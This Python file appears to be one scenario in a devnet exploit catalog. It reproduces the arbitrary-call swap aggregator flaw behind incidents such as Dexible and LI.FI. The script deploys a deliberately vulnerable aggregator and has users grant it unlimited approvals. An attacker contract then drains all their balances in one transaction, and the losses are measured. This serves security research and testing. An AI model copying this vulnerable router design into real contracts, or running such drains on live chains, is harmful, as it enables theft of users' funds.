"""Scenario `router-arbitrary-call`: a swap aggregator makes any call its caller asks for, so its
users' unlimited approvals can be spent by anyone (Dexible 2023, Transit Swap 2022, LI.FI 2024,
Socket/Bungee 2024).

SwapAggregator.swap(tokenIn, amountIn, target, data, tokenOut, minOut) pulls `amountIn` from the
caller, approves `target`, executes `target.call(data)` and forwards the `tokenOut` it received.
Alice, bob, carol and dave approve it without limit (USDX and/or WETH) and swap honestly through
the shared SwapRouter. Then, in one tx, mallory's AggregatorDrainer calls `swap` with amountIn 0,
target = the token and data = `transferFrom(victim, mallory, everything)` for every victim and
token it was approved for: the aggregator spends the allowances and mallory gets every balance.
"""

from __future__ import annotations

from collections.abc import Sequence

from timemachine.catalog.builder import ETHER
from timemachine.catalog.devnet import actor_address
from timemachine.catalog.exploit import measure_exploit
from timemachine.catalog.models import ScenarioRecord
from timemachine.catalog.scenarios.base import declared
from timemachine.catalog.scenarios.contract import Contract, deploy
from timemachine.catalog.scenarios.markets import DEADLINE, SWAP_GAS, USD, markets
from timemachine.catalog.scenarios.world import Markets, World
from timemachine.errors import DevnetBuildError

ATTACKER = "mallory"
AGGREGATOR_SWAP_GAS = SWAP_GAS + 150_000
EXPLOIT_GAS = 1_500_000
UNLIMITED = 2**256 - 1


async def _honest_swaps(
    world: World, market: Markets, aggregator: Contract
) -> dict[str, list[str]]:
    """Users approve the aggregator without limit and swap through the shared router; returns
    which tokens (addresses) each user approved. Each swap must pay at least 99% of the quote."""
    chain, weth, a = world.chain, world.weth, actor_address
    usdx, router = market.usdx, market.router
    await weth.send("carol", "deposit", value=3 * ETHER)
    approved = {
        "alice": [usdx, weth],
        "bob": [usdx],
        "carol": [weth],
        "dave": [usdx, weth],
    }
    for user, tokens in approved.items():
        for token in tokens:
            await token.send(user, "approve", aggregator.address, UNLIMITED)
    await chain.mine()

    trades = (
        ("alice", usdx, weth, 3_000 * USD),
        ("bob", usdx, weth, 5_000 * USD),
        ("carol", weth, usdx, 1 * ETHER),
        ("dave", usdx, weth, 2_000 * USD),
    )
    for user, sold, bought, amount in trades:
        path = [sold.address, bought.address]
        quoted = (await router.call("getAmountsOut", amount, path))[-1]
        data = router.artifact.calldata(
            "swapExactTokensForTokens", amount, 0, path, aggregator.address, DEADLINE
        )
        before = await bought.call("balanceOf", a(user))
        tx = await aggregator.send(
            user,
            "swap",
            sold.address,
            amount,
            router.address,
            data,
            bought.address,
            quoted * 99 // 100,
            gas=AGGREGATOR_SWAP_GAS,
        )
        await chain.mine()
        received = await bought.call("balanceOf", a(user)) - before
        if received != quoted:
            raise DevnetBuildError(f"aggregator swap {tx}: {user} got {received}, not {quoted}")
    return {user: [token.address for token in tokens] for user, tokens in approved.items()}


async def _drainable(
    world: World, approved: dict[str, list[str]], tokens: Sequence[str]
) -> dict[str, int]:
    """What the drain must take: every approved balance the victims hold, per lower-cased token."""
    expected = {token.lower(): 0 for token in tokens}
    for user, approvals in approved.items():
        for token in approvals:
            expected[token.lower()] += await world.chain.token_balance(token, actor_address(user))
    if not all(expected.values()):
        raise DevnetBuildError(f"router-arbitrary-call: nothing to drain in some token {expected}")
    return expected


async def stage(world: World) -> ScenarioRecord:
    """Deploy the aggregator, swap honestly through it, then drain every allowance in one tx."""
    chain, a = world.chain, actor_address
    market = await markets(world)
    aggregator = await deploy(chain, "deployer", "SwapAggregator")
    drainer = await deploy(chain, ATTACKER, "AggregatorDrainer")
    await chain.mine()
    approved = await _honest_swaps(world, market, aggregator)

    tokens = [market.usdx.address, world.weth.address]
    victims = sorted((a(user) for user in approved), key=str.lower)
    outcome = await measure_exploit(
        chain,
        lambda: drainer.send(
            ATTACKER, "drain", aggregator.address, tokens, victims, gas=EXPLOIT_GAS
        ),
        attackers=[a(ATTACKER), drainer.address],
        victims=victims,
        tokens=tokens,
        expected_losses=await _drainable(world, approved, tokens),
        what="aggregator arbitrary-call drain",
    )
    if set(outcome.losses) != {victim.lower() for victim in victims}:
        raise DevnetBuildError(f"aggregator drain {outcome.tx} spared a victim: {outcome.losses}")
    return SCENARIO.exploited(
        outcome, attacker=a(ATTACKER), contracts=[drainer.address], victims=victims
    )


SCENARIO = declared("router-arbitrary-call", stage)
